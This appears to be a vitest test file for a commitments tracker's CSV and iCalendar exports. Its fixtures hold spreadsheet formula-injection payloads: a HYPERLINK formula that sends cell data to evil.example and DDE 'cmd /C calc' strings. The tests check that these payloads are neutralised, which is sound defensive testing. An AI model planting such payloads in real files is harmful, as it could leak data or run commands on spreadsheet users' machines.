/**
 * Issue 14: the CSV neutralises formula cells, begins with a byte-order mark (unless bom=false)
 * and lists every source; the calendar is well-formed RFC 5545 (CRLF, folding at 75 octets,
 * escaping), parses with ical.js, carries SEQUENCE from the revision, every source and
 * formatted amounts.
 */
import request from 'supertest';
import { parse as parseCsv } from 'csv-parse/sync';
import ICAL from 'ical.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { harness, tradeBody, type Harness } from './helpers.js';

let h: Harness;
const by = { recordedBy: 'test' };

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
const CMD = "+cmd|' /C calc'!A0";
const SUM = "@SUM(1+1)*cmd|' /C calc'!A0";

beforeAll(async () => {
  h = await harness();
  await h.tracker.record(
    tradeBody({
      id: 'inject-1',
      title: HYPERLINK,
      statement: { quote: CMD, madeAt: '2025-11-15' },
      tags: [SUM, 'trade'],
      parties: ['UZ', 'KZ'],
    }) as never,
    by,
  );
  await h.tracker.record(
    tradeBody({
      id: 'uz-kz-trade-10b',
      title: 'Торговый оборот — довести до $10 млрд; «партнёрство», Ташкент\\Астана',
    }) as never,
    by,
  );
  await h.tracker.execute(
    'uz-kz-trade-10b',
    'AddSource',
    {
      source: {
        publisher: '-Kun.uz',
        title: 'Second report',
        url: 'https://kun.uz/example',
        publishedAt: '2025-11-16',
      },
    },
    by,
  );
});

afterAll(async () => {
  await h.close();
});

const csvRows = (text: string): Array<Record<string, string>> =>
  parseCsv(text, { columns: true, bom: true }) as Array<Record<string, string>>;

describe('GET /commitments.csv is safe for spreadsheets', () => {
  it('prefixes the injected formula cells with an apostrophe and leaves numbers alone', async () => {
    const res = await request(h.app).get('/commitments.csv').expect(200);
    const row = csvRows(res.text).find((r) => r['id'] === 'inject-1');
    expect(row).toBeDefined();
    expect(row?.['title']).toBe(`'${HYPERLINK}`);
    expect(row?.['quote']).toBe(`'${CMD}`);
    expect(row?.['tags']).toBe(`'${SUM};trade`);
    expect(row?.['metric_target']).toBe('10000000000');
    // No cell of the file starts a formula.
    const cells = (parseCsv(res.text, { bom: true }) as string[][]).flat();
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  });

  it('begins with a UTF-8 byte-order mark, and bom=false leaves it out', async () => {
    const withBom = await request(h.app)
      .get('/commitments.csv')
      .buffer(true)
      .parse((res, cb) => {
        const parts: Buffer[] = [];
        res.on('data', (c: Buffer) => parts.push(c));
        res.on('end', () => cb(null, Buffer.concat(parts)));
      })
      .expect(200);
    expect([...(withBom.body as Buffer).subarray(0, 4)]).toEqual([0xef, 0xbb, 0xbf, 0x69]); // BOM, "i"
    const without = await request(h.app).get('/commitments.csv?bom=false').expect(200);
    expect(without.text.startsWith('id,title,')).toBe(true);
    expect(csvRows(without.text).find((r) => r['id'] === 'uz-kz-trade-10b')?.['title']).toMatch(
      /^Торговый оборот/,
    );
    const bad = await request(h.app).get('/commitments.csv?bom=maybe').expect(400);
    expect(bad.body.errors).toEqual([expect.objectContaining({ path: 'bom' })]);
  });

  it('lists every source in the row, not only the first', async () => {
    const res = await request(h.app).get('/commitments.csv').expect(200);
    const row = csvRows(res.text).find((r) => r['id'] === 'uz-kz-trade-10b');
    expect(row?.['source_publisher']).toBe('Xinhua');
    const sources = (row?.['sources'] ?? '').split('\n');
    expect(sources).toHaveLength(2);
    expect(sources[0]).toMatch(/^Xinhua, 2025-11-15, ".*", https:\/\/english\.news\.cn\//);
    expect(sources[1]).toBe('-Kun.uz, 2025-11-16, "Second report", https://kun.uz/example');
  });
});

describe('GET /calendar.ics is RFC 5545', () => {
  it('uses CRLF everywhere, ends with one, and folds no line beyond 75 octets nor inside a UTF-8 sequence', async () => {
    const res = await request(h.app).get('/calendar.ics').expect(200);
    const text = res.text;
    expect(text.endsWith('END:VCALENDAR\r\n')).toBe(true);
    expect(text.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    const lines = text.split('\r\n').slice(0, -1);
    for (const line of lines) expect(Buffer.byteLength(line, 'utf8')).toBeLessThanOrEqual(75);
    // Folding happened (the Cyrillic title is long) and every physical line is valid UTF-8 alone.
    expect(lines.some((l) => l.startsWith(' '))).toBe(true);
    for (const line of lines) expect(line).not.toContain('\uFFFD');
  });

  it('parses with ical.js: escaped text comes back intact, amounts are formatted, every source is listed', async () => {
    const res = await request(h.app).get('/calendar.ics').expect(200);
    const cal = new ICAL.Component(ICAL.parse(res.text));
    expect(cal.getFirstPropertyValue('version')).toBe('2.0');
    const events = cal.getAllSubcomponents('vevent').map((c) => new ICAL.Event(c));
    const deadline = events.find((e) => e.uid === 'uz-kz-trade-10b-deadline@commitments-tracker');
    expect(deadline?.summary).toBe(
      'Deadline: Торговый оборот — довести до $10 млрд; «партнёрство», Ташкент\\Астана',
    );
    expect(deadline?.startDate.toString()).toBe('2030-12-31');
    expect(deadline?.startDate.isDate).toBe(true);
    expect(deadline?.description).toContain('Metric: trade turnover → $10,000,000,000');
    expect(deadline?.description).toContain('Source: Xinhua, 2025-11-15');
    expect(deadline?.description).toContain(
      'Source: -Kun.uz, 2025-11-16, "Second report", https://kun.uz/example',
    );
    const injected = events.find((e) => e.uid === 'inject-1-deadline@commitments-tracker');
    expect(injected?.summary).toBe(`Deadline: ${HYPERLINK}`);
  });

  it('SEQUENCE is the revision − 1, so it grows when the deadline changes', async () => {
    const seq = async (): Promise<number> => {
      const res = await request(h.app).get('/calendar.ics').expect(200);
      const cal = new ICAL.Component(ICAL.parse(res.text));
      const ev = cal
        .getAllSubcomponents('vevent')
        .map((c) => new ICAL.Event(c))
        .find((e) => e.uid === 'inject-1-deadline@commitments-tracker');
      return ev?.sequence ?? -1;
    };
    expect(await seq()).toBe(0);
    await h.tracker.execute(
      'inject-1',
      'ReviseDeadline',
      { due: { text: 'by 2031' }, reason: 'Agreed at the summit' },
      by,
    );
    expect(await seq()).toBe(1);
  });
});
